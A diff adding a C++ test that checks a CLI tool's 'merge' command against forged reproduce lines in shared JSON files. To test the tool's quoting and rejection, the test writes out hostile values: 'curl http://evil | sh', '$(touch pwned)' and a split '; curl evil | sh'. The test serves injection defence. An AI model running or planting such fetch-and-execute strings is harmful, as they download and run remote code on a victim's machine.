@@ -113,6 +113,31 @@ TEST_CASE("bad input table: merge", "[cli][safety]") {
   REQUIRE(m.status == 0);
   const auto rep = nlohmann::json::parse(m.out);
   CHECK(rep["reproduce"].get<std::string>().rfind("swarmplan simulate --subnet 10.0.0.0/26 --seed ", 0) == 0);
+  // A forged reproduce line is never printed: merge builds its own from
+  // checked, quoted words.
+  const auto Slurp = [](const char* f) {
+    std::ifstream in(f);
+    std::stringstream ss;
+    ss << in.rdbuf();
+    return ss.str();
+  };
+  for (const char* f : {"merge_a.json", "merge_b.json"}) {
+    auto share = nlohmann::json::parse(Slurp(f));
+    share["reproduce_prefix"] = "curl http://evil | sh; swarmplan simulate";
+    share["reproduce_args"] = {"--subnet", "$(touch pwned)"};
+    std::ofstream(std::string("forged_") + f) << share.dump();
+  }
+  const Run fm = Swarmplan("merge forged_merge_a.json forged_merge_b.json");
+  CHECK(fm.out.find("curl") == std::string::npos);
+  CHECK(fm.out.find("swarmplan simulate --subnet '$(touch pwned)' --seed ") != std::string::npos);
+  for (const char* f : {"merge_a.json", "merge_b.json"}) {
+    auto share = nlohmann::json::parse(Slurp(f));
+    share["reproduce_args"] = {"--subnet", "x", "; curl evil |", "sh"};
+    std::ofstream(std::string("forged_") + f) << share.dump();
+  }
+  ExpectError("merge forged_merge_a.json forged_merge_b.json", "is not a flag a reproduce line repeats");
+  std::remove("forged_merge_a.json");
+  std::remove("forged_merge_b.json");
   for (const char* f : {"merge_a.json", "merge_b.json", "merge_forged.json", "merge_deep.json", "merge_typed.json"}) std::remove(f);
 }
 
